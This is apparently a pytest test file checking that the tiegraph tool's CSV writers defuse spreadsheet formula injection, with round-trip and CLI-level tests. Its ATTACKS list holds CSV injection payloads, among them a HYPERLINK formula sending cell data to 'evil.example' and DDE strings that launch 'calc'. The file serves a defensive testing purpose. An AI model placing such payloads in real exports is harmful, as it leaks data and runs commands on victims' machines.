"""CSV injection: every CSV tiegraph writes keeps formula cells as text (OWASP, CSV Injection).

The oracle is Python's own ``csv`` reader over the bytes on disk: no cell a
spreadsheet would read as a formula (text starting with ``= + - @``, tab or
CR) may appear, whatever the writer.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from graph.resolution.resolver import ReviewItem
from graph.resolution.review import decide, read_review, write_review
from graph.sources.quarantine import read_quarantine, write_quarantine
from graph.sources.tabular import Rejection
from graph.store.export import neutralise_cell, read_safe_csv, restore_cell, safe_csv_text, write_safe_csv

ROOT = Path(__file__).resolve().parents[1]
DATA = Path(__file__).parent / "data"
ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV text that a spreadsheet would run (numbers such as -3 are numbers, not formulas)."""
    bad = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def test_owasp_prefix_and_its_inverse() -> None:
    assert [neutralise_cell(a) for a in ATTACKS] == ["'" + a for a in ATTACKS]
    assert [neutralise_cell(x) for x in ("plain", "", "'quoted", -3, 2.5, None)] == [
        "plain",
        "",
        "'quoted",
        -3,
        2.5,
        None,
    ]
    assert neutralise_cell("'=x") == "''=x" and restore_cell("''=x") == "'=x"
    assert formula_cells(safe_csv_text(pd.DataFrame({"a": list(ATTACKS), "n": range(-3, 3)}))) == []


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r'a ,\"\n1"), max_size=6), min_size=1, max_size=8))
def test_write_then_read_round_trips_and_never_leaves_a_formula(tmp_path_factory, cells: list[str]) -> None:  # noqa: ANN001
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_safe_csv(path, [(c, i) for i, c in enumerate(cells)], ("text", "n"))
    assert formula_cells(path.read_text(encoding="utf-8")) == []
    back = read_safe_csv(path, dtype=str, keep_default_na=False)
    assert back["text"].tolist() == cells


def test_quarantine_review_and_alias_files_keep_formulas_as_text(tmp_path: Path) -> None:
    rejections = [Rejection("contacts.csv", i + 2, "date", a, "is not a date") for i, a in enumerate(ATTACKS)]
    path = write_quarantine(tmp_path / "q", Path("contacts.csv"), rejections)
    assert path is not None and formula_cells(path.read_text(encoding="utf-8")) == []
    assert read_quarantine(tmp_path / "q")["value"].tolist() == list(
        ATTACKS
    )  # tiegraph reads its own file back exactly

    items = [
        ReviewItem(written_as=a, new_id=f"=p{i}", candidate_id="@c", candidate_name=a, score=0.9)
        for i, a in enumerate(ATTACKS)
    ]
    review = write_review(tmp_path, items)
    assert review is not None and formula_cells(review.read_text(encoding="utf-8")) == []
    assert sorted(read_review(tmp_path)["written_as"]) == sorted(ATTACKS)
    aliases = decide(tmp_path, "=p0", "@c", "different")
    assert formula_cells(aliases.read_text(encoding="utf-8")) == []
    assert formula_cells(review.read_text(encoding="utf-8")) == []
    assert "=p0" not in read_review(tmp_path)["new_id"].tolist()


def test_ingest_quarantine_and_alumni_report_from_the_cli(tmp_path: Path) -> None:
    folder, home, out = tmp_path / "input", tmp_path / "home", tmp_path / "report"
    folder.mkdir()
    shutil.copy(DATA / "dashboard" / "roster.csv", folder / "roster.csv")
    alumni = pd.read_csv(DATA / "dashboard" / "alumni.csv", dtype=str)
    alumni.loc[0, "institution"] = ATTACKS[3]
    alumni.loc[0, "specialty"] = ATTACKS[0]
    alumni.to_csv(folder / "alumni.csv", index=False)
    contacts = pd.read_csv(DATA / "contacts_small.csv", dtype=str)
    contacts.loc[len(contacts) - 1, "date"] = ATTACKS[1]  # rejected: its value lands in the quarantine file
    contacts.to_csv(folder / "contacts.csv", index=False)
    env = {**os.environ, "TIEGRAPH_HOME": str(home), "TIEGRAPH_STORE": "embedded", "DO_NOT_TRACK": "1"}
    env["PREFECT_SERVER_ANALYTICS_ENABLED"] = "false"
    cli = [sys.executable, "-m", "pipelines.cli"]
    for args in (["ingest", str(folder)], ["report", "alumni", "--out", str(out)]):
        done = subprocess.run([*cli, *args], env=env, cwd=ROOT, capture_output=True, text=True, timeout=600)
        assert done.returncode == 0, done.stderr
    written = sorted(home.rglob("*.csv")) + sorted(out.glob("*.csv"))
    names = {p.name for p in written}
    assert {"contacts.csv.quarantine.csv", "alumni_programs.csv", "alumni_by_institution.csv"} <= names
    assert ATTACKS[1] in read_quarantine(home / "quarantine")["value"].tolist()
    for p in written:
        assert formula_cells(p.read_text(encoding="utf-8")) == [], p.name
    institutions = read_safe_csv(out / "alumni_by_institution.csv", dtype=str)
    assert ATTACKS[3] in institutions.iloc[:, 0].tolist()  # the name is kept, only defused
